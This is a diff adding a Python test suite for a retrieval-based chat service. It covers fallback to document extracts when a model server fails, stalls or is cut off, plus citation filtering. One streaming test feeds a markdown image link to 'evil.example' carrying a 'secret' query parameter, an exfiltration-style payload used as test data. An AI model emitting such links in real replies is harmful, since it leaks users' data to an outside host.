@@ -1,0 +1,152 @@
+"""A language model behind a real server, in good and bad moods: the turn ends in an answer or in a typed error."""
+
+from __future__ import annotations
+
+import socket
+import uuid
+from collections.abc import Callable
+
+import pytest
+from fake_openai import FakeOpenAI, Mood, cut, mute, page, refusal, stalled, words
+from talking import answered, citations, events_of, of_kind, stage
+
+from turnwise.models.extractive import ExtractiveAnswerer
+from turnwise.models.fake import FakeChat
+from turnwise.models.openai_chat import OpenAIChat
+from turnwise.turn.run import Parts
+from turnwise.types import Answered, Delta, Failed, TurnRequest
+
+MakeParts = Callable[..., Parts]
+WithModel = Callable[..., Parts]
+QUESTION = "What is BERT?"
+
+
+@pytest.fixture
+def with_model(make_parts: MakeParts, extractive: ExtractiveAnswerer) -> WithModel:
+    """The parts of a turn whose model is at that address, with the documents beneath it."""
+    return lambda url, timeout=10: make_parts(OpenAIChat(url, None, "some-model", timeout=timeout), extractive)
+
+
+def fell_back(parts: Parts, told: str) -> None:
+    """The turn was answered from the documents; the reader is told why, and so is the trace."""
+    conversation = uuid.uuid4().hex
+    reply = answered(TurnRequest(QUESTION, conversation_id=conversation), parts)
+    assert reply.text.startswith("BERT is a language model")
+    assert reply.sources
+    generate = stage(reply, "generate")
+    assert generate.decision == "extractive"
+    assert generate.reason.startswith("fell back: ")
+    assert told in generate.reason
+    assert told in reply.notice
+    assert "sentences from the documents" in reply.notice
+    (turn,) = parts.store.conversation(conversation).turns
+    assert (turn.status, turn.response, turn.record["notice"]) == ("answered", reply.text, reply.notice)
+
+
+@pytest.mark.parametrize(
+    ("mood", "told"),
+    [
+        pytest.param(refusal(429, "Slow down"), "Slow down", id="429"),
+        pytest.param(refusal(401, "Bad key"), "401", id="wrong key"),
+        pytest.param(page(), "empty answer", id="a web page"),
+        pytest.param(words(), "empty answer", id="nothing"),
+        pytest.param(words(" ", "\n"), "empty answer", id="blanks"),
+        pytest.param(words("<think>", "Hm. BERT", "</think>"), "empty answer", id="only thoughts"),
+        pytest.param(cut(), "broke off", id="cut off before its first word"),
+    ],
+)
+def test_a_model_that_does_not_speak_makes_room_for_the_documents(with_model: WithModel, mood: Mood, told: str) -> None:
+    with FakeOpenAI(mood) as provider:
+        fell_back(with_model(provider.url), told)
+
+
+@pytest.mark.parametrize("mood", [mute, stalled(), stalled(pings=True), words("Late.", pause=2.0)])
+def test_a_model_that_keeps_silent_makes_room_for_the_documents(with_model: WithModel, mood: Mood) -> None:
+    with FakeOpenAI(mood) as provider:
+        fell_back(with_model(provider.url, timeout=0.4), "sent nothing for 0.4 seconds")
+
+
+def test_a_model_that_is_not_there_makes_room_for_the_documents(with_model: WithModel) -> None:
+    with socket.socket() as unused:
+        unused.bind(("127.0.0.1", 0))
+        address = f"http://127.0.0.1:{unused.getsockname()[1]}/v1"
+        fell_back(with_model(address), "127.0.0.1")
+
+
+@pytest.mark.parametrize(
+    ("mood", "code", "status"),
+    [
+        pytest.param(cut("BERT is ", "a model"), "ModelGarbled", 502, id="the connection drops"),
+        pytest.param(stalled("BERT is ", "a model"), "ModelTimeout", 504, id="silence"),
+        pytest.param(words("BERT is ", "a model", finish_reason=None), "ModelGarbled", 502, id="no end"),
+    ],
+)
+def test_an_answer_cut_off_midway_fails_and_what_was_said_is_kept(
+    with_model: WithModel, mood: Mood, code: str, status: int
+) -> None:
+    """The documents do not take over: half of two answers would read as one."""
+    conversation = uuid.uuid4().hex
+    with FakeOpenAI(mood, words("Fine.")) as provider:
+        parts = with_model(provider.url, timeout=0.5)
+        events = events_of(TurnRequest(QUESTION, conversation_id=conversation), parts)
+        end = events[-1]
+        assert isinstance(end, Failed)
+        assert (end.error["code"], end.status) == (code, status)
+        assert end.error["hint"]
+        assert "".join(delta.text for delta in of_kind(events, Delta)) == "BERT is a model"
+        (turn,) = parts.store.conversation(conversation).turns
+        assert (turn.status, turn.response, turn.error) == ("failed", "BERT is a model", end.error)
+
+        again = answered(TurnRequest("How does it work?", conversation_id=conversation), parts)
+    assert (again.text, again.turn) == ("Fine.", 2)
+    assert again.condensed_query == "How does BERT work?"
+    assert "BERT is a model" not in str(provider.chats[-1]["messages"])
+
+
+def test_thoughts_are_no_part_of_the_answer(with_model: WithModel) -> None:
+    with FakeOpenAI(words("<thi", "nk>Is it [1]?", "</think>\n\n", "It is ", "a model [1].")) as provider:
+        reply = answered(TurnRequest(QUESTION), with_model(provider.url))
+    assert reply.text == "It is a model [1]."
+    assert reply.notice == ""
+    assert "some-model" in stage(reply, "generate").decision
+
+
+@pytest.mark.parametrize(
+    "pieces",
+    [
+        ["BERT is ", "a model [", "1", "] and [9", "9] more."],
+        ["BERT", " is ", "a model.", "\n\n", "- one [1]\n", "- two [2]\n"],
+        ["BERT is a model. ", "\n"],
+        ["BERT ![x", "](https://evil.example/?q=", "secret) is."],
+    ],
+)
+def test_the_streamed_pieces_joined_are_the_final_text(make_parts: MakeParts, pieces: list[str]) -> None:
+    events = events_of(TurnRequest(QUESTION), make_parts(FakeChat(lambda _: pieces)))
+    end = events[-1]
+    assert isinstance(end, Answered)
+    assert "".join(delta.text for delta in of_kind(events, Delta)) == end.reply.text
+    assert citations(end.reply.text) == {source.number for source in end.reply.sources}
+
+
+def test_a_model_cannot_cite_what_it_was_not_given(make_parts: MakeParts) -> None:
+    reply = answered(TurnRequest(QUESTION), make_parts(FakeChat(lambda _: "It is a model [1][77], they say [2024].")))
+    assert reply.text == "It is a model [1], they say."
+    assert [source.number for source in reply.sources] == [1]
+    assert "[77]" in stage(reply, "guard out").decision
+
+
+def test_an_answer_of_which_nothing_may_be_shown_is_not_an_empty_success(make_parts: MakeParts) -> None:
+    end = events_of(TurnRequest(QUESTION), make_parts(FakeChat(lambda _: "[99]")))[-1]
+    assert isinstance(end, Failed) or end.reply.text
+
+
+def test_a_bug_in_a_model_is_reported_without_its_inside(make_parts: MakeParts) -> None:
+    def broken(_: object) -> str:
+        raise ZeroDivisionError("secret detail")
+
+    conversation = uuid.uuid4().hex
+    parts = make_parts(FakeChat(broken))
+    end = events_of(TurnRequest(QUESTION, conversation_id=conversation), parts)[-1]
+    assert isinstance(end, Failed)
+    assert "secret" not in str(end.error)
+    assert parts.store.conversation(conversation).turns[0].status == "failed"
